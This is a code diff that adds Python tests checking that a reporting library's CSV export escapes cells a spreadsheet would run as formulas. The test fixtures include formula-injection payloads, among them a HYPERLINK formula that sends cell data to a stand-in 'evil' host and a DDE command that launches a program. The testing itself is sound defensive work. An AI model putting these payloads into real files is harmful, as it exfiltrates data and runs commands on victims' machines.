@@ -1,3 +1,6 @@
+import csv
+import io
+
 from opsmeter_reporting import render
 
 
@@ -24,6 +27,18 @@ class TestBoardPackRender:
         sections = [line.split(",")[0] for line in text.splitlines()[1:]]
         assert sections == ["notice", "summary", "trend", "trend", "top_driver", "budget_history"]
         assert "Retention window applied" in text
+
+    def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(self) -> None:
+        attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+        pack = {**PACK, "topDrivers": {"endpointTag": [{"key": a, **totals(1)} for a in attacks]}}
+        rows = list(csv.reader(io.StringIO(render.board_pack_csv(pack))))
+        keys = [row[2] for row in rows if row[0] == "top_driver"]
+        assert keys == ["'" + a for a in attacks]
+        assert [row[4] for row in rows if row[0] == "top_driver"] == ["1"] * len(attacks)
+
+    def test_plain_cells_are_unchanged(self) -> None:
+        rows = list(csv.reader(io.StringIO(render.board_pack_csv(PACK))))
+        assert [row[2] for row in rows if row[0] == "top_driver"] == ["gpt-4o"]
 
     def test_pdf_is_a_pdf(self) -> None:
         assert render.board_pack_pdf(PACK).startswith(b"%PDF")
